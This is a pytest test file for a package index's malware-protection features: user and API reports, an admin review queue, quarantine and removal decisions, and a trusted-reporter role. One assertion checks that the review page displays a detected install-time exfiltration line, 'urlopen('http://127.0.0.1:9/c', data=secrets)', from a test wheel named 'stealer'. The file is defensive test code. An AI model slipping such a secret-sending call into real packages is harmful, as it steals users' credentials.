"""Protection in the web UI and JSON API: the malware report form and API, the admins'
review queue pages and decisions, the trusted-reporter grant."""

from __future__ import annotations

from pathlib import Path

import httpx
import pytest
from sqlalchemy import func, select

from bastion.accounts.models import User
from bastion.accounts.tokens import create_token
from bastion.protect.models import MalwareReport
from bastion.services import Services
from tests.protect.demonstrators import malicious_wheel
from tests.protect.detectors import (
    ExpectingJudge,
    FixedScanner,
    malicious_report,
    protection,
    review,
)
from tests.support.audit import audit_tags
from tests.support.dists import make_wheel
from tests.support.protect import hidden, seen, served
from tests.support.types import MakeUser, PostUpload
from tests.support.web import cookie, web_session


@pytest.fixture
def scanner(services: Services) -> FixedScanner:
    scanner = FixedScanner()
    # Names are not under test here: the real judge does not get a say.
    judge = ExpectingJudge({"requests": review("requests", "requests")}, real=False)
    services.protect = protection(judge=judge, scanner=scanner)
    return scanner


@pytest.fixture
async def people(
    make_user: MakeUser, post_upload: PostUpload, tmp_path: Path, scanner: FixedScanner
) -> dict[str, User]:
    """alice publishes ``demo`` and a held ``requests`` and a quarantined ``stealer``; bob
    reads; root is an admin."""
    people = {
        name: await make_user(name, admin=name == "root") for name in ("alice", "bob", "root")
    }
    assert (await post_upload(make_wheel(tmp_path, "demo", "1.0"))).status_code == 200
    assert (await post_upload(make_wheel(tmp_path, "requests", "99.0"))).status_code == 200
    wheel = malicious_wheel(tmp_path, "stealer", "1.0")
    scanner.verdicts[wheel.name] = malicious_report(wheel.name)
    assert (await post_upload(wheel)).status_code == 200
    return people


async def test_report_form_on_the_project_page(
    services: Services,
    client: httpx.AsyncClient,
    people: dict[str, User],
) -> None:
    raw, csrf = await web_session(services, people["bob"])
    page = await client.get("/project/demo/", headers=cookie(raw))
    assert 'action="/report/"' in page.text and csrf in page.text
    client.cookies.clear()
    assert 'action="/report/"' not in (await client.get("/project/demo/")).text

    form = {"csrf_token": csrf, "project": "demo", "reason": "it mines coins"}
    done = await client.post("/report/", data=form, headers=cookie(raw))
    assert done.status_code == 200, done.text
    assert "your report is with the administrators" in done.text
    again = await client.post("/report/", data=form, headers=cookie(raw))
    assert again.status_code == 409 and "already reported" in again.text
    forged = await client.post("/report/", data={**form, "csrf_token": "x"}, headers=cookie(raw))
    assert forged.status_code == 403
    client.cookies.clear()
    anonymous = await client.post("/report/", data=form)
    assert anonymous.status_code == 403  # no session, so no CSRF token: refused first
    hidden_project = await client.post(
        "/report/", data={**form, "project": "requests"}, headers=cookie(raw)
    )
    assert hidden_project.status_code == 404
    async with services.db.session() as session:  # only the first report was kept
        assert await session.scalar(select(func.count()).select_from(MalwareReport)) == 1
    assert await audit_tags(services, prefix="protect:report") == ["protect:report"]


async def test_report_api_with_a_token(
    services: Services,
    client: httpx.AsyncClient,
    people: dict[str, User],
) -> None:
    async with services.db.transaction() as session:
        secret, _row = await create_token(
            session, services.clock, services.settings, user=people["bob"], name="reports"
        )
    auth = ("__token__", secret)
    body = {"project": "demo", "version": "1.0", "reason": "exfiltrates ~/.ssh"}
    created = await client.post("/api/reports", json=body, auth=auth)
    assert created.status_code == 201, created.text
    assert created.json() | {"id": 0} == {
        "id": 0,
        "project": "demo",
        "version": "1.0",
        "trusted": False,
        "quarantined": False,
    }
    assert (await client.post("/api/reports", json=body, auth=auth)).status_code == 409
    assert (await client.post("/api/reports", json=body)).status_code == 401
    bad = await client.post("/api/reports", content=b"[1]", auth=auth)
    assert bad.status_code == 400 and "Send a JSON object" in bad.text
    missing = await client.post("/api/reports", json={**body, "project": "nothere"}, auth=auth)
    assert missing.status_code == 404
    no_reason = await client.post("/api/reports", json={**body, "reason": ""}, auth=auth)
    assert no_reason.status_code == 400 and "Say why" in no_reason.text


async def test_review_pages_are_for_admins(
    services: Services,
    client: httpx.AsyncClient,
    people: dict[str, User],
) -> None:
    raw, _csrf = await web_session(services, people["bob"])
    assert (await client.get("/admin/review/", headers=cookie(raw))).status_code == 403
    assert (await client.get("/admin/review/demo/", headers=cookie(raw))).status_code == 403
    raw, _csrf = await web_session(services, people["root"])
    queue = await client.get("/admin/review/", headers=cookie(raw))
    assert queue.status_code == 200
    assert 'href="/admin/review/stealer/"' in queue.text
    assert 'href="/admin/review/requests/"' in queue.text and "held name" in queue.text
    as_json = (await client.get("/admin/review/?format=json", headers=cookie(raw))).json()
    assert [i["project"] for i in as_json["items"]] == ["stealer", "requests"]
    detail = await client.get("/admin/review/stealer/", headers=cookie(raw))
    assert "install-time-exfiltration" in detail.text
    assert "urlopen(&#39;http://127.0.0.1:9/c&#39;, data=secrets)" in detail.text
    assert "Compared with no previous release" in detail.text
    assert 'id="decide-clear"' in detail.text and 'id="decide-approve"' not in detail.text
    held = await client.get("/admin/review/requests/", headers=cookie(raw))
    assert 'id="decide-approve"' in held.text and "popular-name" in held.text


async def test_admin_decisions_from_the_web(
    services: Services,
    client: httpx.AsyncClient,
    people: dict[str, User],
) -> None:
    raw, csrf = await web_session(services, people["root"])
    approve = await client.post(
        "/admin/review/requests/approve/",
        headers=cookie(raw),
        data={"csrf_token": csrf, "reason": "ours"},
    )
    assert approve.status_code == 303 and approve.headers["location"] == "/admin/review/requests/"
    assert served(await seen(client, services, "requests"))

    cleared = await client.post(
        "/admin/review/stealer/clear/", headers=cookie(raw), data={"csrf_token": csrf}
    )
    assert cleared.status_code == 303
    assert served(await seen(client, services, "stealer"))
    quarantined = await client.post(
        "/admin/review/stealer/quarantine/",
        headers=cookie(raw),
        data={"csrf_token": csrf, "reason": "bad"},
    )
    assert quarantined.status_code == 303
    assert hidden(await seen(client, services, "stealer"))
    no_reason = await client.post(
        "/admin/review/stealer/remove/",
        headers=cookie(raw),
        data={"csrf_token": csrf, "reason": ""},
    )
    assert no_reason.status_code == 400 and "Give a reason" in no_reason.text
    removed = await client.post(
        "/admin/review/stealer/remove/",
        headers=cookie(raw),
        data={"csrf_token": csrf, "reason": "malware", "forbid": "1"},
    )
    assert removed.status_code == 303 and removed.headers["location"] == "/admin/review/"
    assert (await client.get("/admin/review/stealer/", headers=cookie(raw))).status_code == 404

    raw_bob, csrf_bob = await web_session(services, people["bob"])
    refused = await client.post(
        "/admin/review/demo/quarantine/",
        headers=cookie(raw_bob),
        data={"csrf_token": csrf_bob, "reason": "mine"},
    )
    assert refused.status_code == 403
    assert served(await seen(client, services, "demo"))


async def test_granting_the_trusted_reporter_role(
    services: Services,
    client: httpx.AsyncClient,
    people: dict[str, User],
) -> None:
    from bastion.protect.reports import is_trusted

    raw, csrf = await web_session(services, people["root"])
    granted = await client.post(
        "/admin/users/bob/trusted-reporter/",
        headers=cookie(raw),
        data={"csrf_token": csrf, "trusted": "1"},
    )
    assert granted.status_code == 303
    async with services.db.session() as session:
        assert await is_trusted(session, people["bob"].id)
    queue = await client.get("/admin/review/", headers=cookie(raw))
    assert 'id="trusted-reporter-form"' in queue.text
    revoked = await client.post(
        "/admin/users/-/trusted-reporter/",
        headers=cookie(raw),
        data={"csrf_token": csrf, "username": "bob", "trusted": "0"},
    )
    assert revoked.status_code == 303
    async with services.db.session() as session:
        assert not await is_trusted(session, people["bob"].id)
    unknown = await client.post(
        "/admin/users/-/trusted-reporter/",
        headers=cookie(raw),
        data={"csrf_token": csrf, "username": "nobody", "trusted": "1"},
    )
    assert unknown.status_code == 404
    raw_bob, csrf_bob = await web_session(services, people["bob"])
    refused = await client.post(
        "/admin/users/alice/trusted-reporter/",
        headers=cookie(raw_bob),
        data={"csrf_token": csrf_bob, "trusted": "1"},
    )
    assert refused.status_code == 403


async def test_owner_sees_the_quarantined_project_with_its_reason(
    services: Services,
    client: httpx.AsyncClient,
    people: dict[str, User],
) -> None:
    raw, _csrf = await web_session(services, people["alice"])
    page = await client.get("/project/stealer/", headers=cookie(raw))
    assert page.status_code == 200
    assert 'id="project-status"' in page.text and "quarantined" in page.text
    assert "malware scan: stealer-1.0-py3-none-any.whl is malicious" in page.text
    raw_bob, _ = await web_session(services, people["bob"])
    assert (await client.get("/project/stealer/", headers=cookie(raw_bob))).status_code == 404
